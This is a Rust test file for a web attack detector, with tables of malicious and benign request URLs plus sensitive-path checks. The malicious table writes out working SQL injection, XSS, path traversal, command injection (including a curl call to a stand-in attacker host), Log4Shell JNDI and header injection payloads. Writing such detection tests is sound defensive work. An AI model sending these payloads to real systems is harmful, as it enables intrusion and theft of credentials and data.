//! A table of attacks, and one of what people ask for.

use super::*;

/// Whether a path with a query is taken for an attack.
fn is_attack(target: &str) -> bool {
    let (path, query) = match target.split_once('?') {
        Some((path, query)) => (path, Some(query)),
        None => (target, None),
    };
    found(path, query).is_some()
}

#[test]
fn attacks_are_known() {
    for target in [
        "/?id=1'+or+1=1--",
        "/?id=1%27%20OR%20%271%27=%271",
        "/?id=1%27/**/or/**/1=1",
        "/?id=%22)+or+(%221%22=%221",
        "/?user=admin'--",
        "/?user=admin%27%20--%20",
        "/?user=admin'%23",
        "/?id=1+UNION+SELECT+1,2,3",
        "/?id=-1+UnIoN/**/aLL/**/sElEcT+null,null",
        "/?id=1%27+union+select+password+from+users",
        "/?id=1;drop+table+users",
        "/?id=1');+DELETE+FROM+users",
        "/?id=1+and+sleep(5)",
        "/?id=1;select+pg_sleep(10)",
        "/?id=1;waitfor+delay+'0:0:5'",
        "/?q=(select(sleep(5)))",
        "/?t=1,name+from+information_schema.tables",
        "/?q=<script>alert(1)</script>",
        "/?q=%3Cscript%20src=//evil.example%3E",
        "/?q=%253Cscript%253E",
        "/?q=<img+src=x+onerror=alert(1)>",
        "/?q=%3Csvg/onload%3Dalert(1)%3E",
        "/?q=\"><body%20onload%20=alert(1)>",
        "/?next=javascript:alert(1)",
        "/?q=<a+href=\"javascript:x()\">",
        "/?q=<iframe+src=//evil.example>",
        "/../../etc/passwd",
        "/static/..%2f..%2f..%2fetc/shadow",
        "/static/%2e%2e/%2e%2e/secret",
        "/static/%252e%252e%252fsecret",
        "/?file=../../config.yml",
        "/?file=..%5c..%5cboot.ini",
        "/?file=/etc/passwd",
        "/?file=page.html%00.png",
        "/?file=php://filter/convert.base64-encode/resource=index",
        "/?host=1.1.1.1;cat+/etc/hosts",
        "/?host=1.1.1.1%26%26whoami",
        "/?host=x|id",
        "/?host=$(curl+evil.example)",
        "/?host=`id`",
        "/?x=()+{+:;};+/bin/bash+-c+id",
        "/?x=${jndi:ldap://evil.example/a}",
        "/?x=$%7Bjndi:dns://evil.example%7D",
        "/?x=${${lower:j}ndi:ldap://evil.example}",
        "/?name={{7*7}}",
        "/?name=${7*7}",
        "/?name=%7B%7B7*'7'%7D%7D",
        "/?lang=en%0d%0aSet-Cookie:%20a=b",
        "/?next=/%0d%0aLocation:%20http://evil.example",
    ] {
        assert!(is_attack(target), "{target}");
    }
}

#[test]
fn what_people_ask_for_is_none() {
    for target in [
        "/",
        "/index.html",
        "/docs/../index.html".trim_start_matches("/docs/.."),
        "/users/o'brien",
        "/search?q=rock+%27n%27+roll",
        "/search?q=it%27s+5+or+6+o%27clock",
        "/search?q=select+a+union+from+the+list",
        "/search?q=european+union+select+committee",
        "/search?q=drop+table+tennis",
        "/search?q=How+do+I+drop+a+table%3F",
        "/search?q=insert+into+envelope",
        "/search?q=sleep(5)+in+python",
        "/search?q=time.sleep(10)",
        "/search?q=a+%3C+b+and+b+%3E+c",
        "/search?q=5+%3C+6+on+average+%3D+good",
        "/search?q=%3C3+you",
        "/search?q=learn+javascript:+the+good+parts",
        "/search?q=cats;+dogs;+birds",
        "/search?q=salt+%26+pepper",
        "/search?q=AT%26T",
        "/search?q=100%25+cotton",
        "/search?q=C%2B%2B",
        "/search?q=%22exact+phrase%22+or+%22another%22",
        "/search?q=%22a%22+or+%22b%22",
        "/search?q=wait...+what%3F",
        "/search?q=..",
        "/search?q=price:%3E10",
        "/search?q=%24100+or+%24200",
        "/search?q=a/b/c",
        "/search?q=script+writing",
        "/search?q=catalog+/+list",
        "/search?q=id",
        "/notes?text=first+line%0D%0Asecond+line%0D%0AName:+x",
        "/notes?text=dear+all,%0A%0Aping+me",
        "/notes?text=he+said+%22yes%22%3B+she+said+%22no%22",
        "/notes?text=Hello+{{name}},+welcome",
        "/notes?text=%24%7Bname%7D",
        "/callback?code=4%2F0AX4XfWh&state=eyJhIjoxfQ%3D%3D&scope=openid%20email",
        "/login?next=%2Faccount%3Ftab%3Dbilling%26page%3D2",
        "/login?next=https%3A%2F%2Fshop.example.com%2Fa%3Fb%3D%2520c",
        "/api/items?filter[price][gte]=10&sort=-name",
        "/api/items?where={%22name%22:%22O%27Neil%22,%22age%22:{%22$gt%22:5}}",
        "/api/graphql?query={user(id:1){name,email}}",
        "/api/time?range=2024-01-01..2024-02-01",
        "/compare/v1.0...v2.0",
        "/compare?a=main..dev",
        "/files/report%20(final)%20--%20copy.pdf",
        "/emoji?q=%F0%9F%98%80",
        "/umlaut?q=%C3%BCber",
        "/broken?q=%E0%A4%A&x=%",
        "/@scope/package@1.2.3",
        "/.well-known/openid-configuration",
        "/a;jsessionid=1A2B3C?x=1",
        "/sql?q=SELECT+name+FROM+users+WHERE+id+%3D+1",
        "/css?q=a:hover{color:red}",
        "/t?time=12:30&zone=Europe/Vienna",
    ] {
        assert!(!is_attack(target), "{target}");
    }
}

#[test]
fn a_part_of_a_path_ends_where_a_word_ends() {
    let parts = ["/wp-admin", "/.git", "/.env", "/internal/"].map(str::to_owned);
    for path in [
        "/wp-admin",
        "/blog/wp-admin/setup.php",
        "/WP-Admin/",
        "//wp-admin",
        "/%77p-admin",
        "/%2577p-admin",
        "/.git/config",
        "/.env",
        "/.env.local",
        "/a\\.env",
        "/internal/x",
    ] {
        assert!(has_part(path, &parts), "{path}");
    }
    for path in [
        "/",
        "/wp-administration",
        "/.github/x",
        "/.environment",
        "/my.env",
        "/internal",
        "/git",
    ] {
        assert!(!has_part(path, &parts), "{path}");
    }
    assert!(!has_part("/wp-admin", &[]));
}
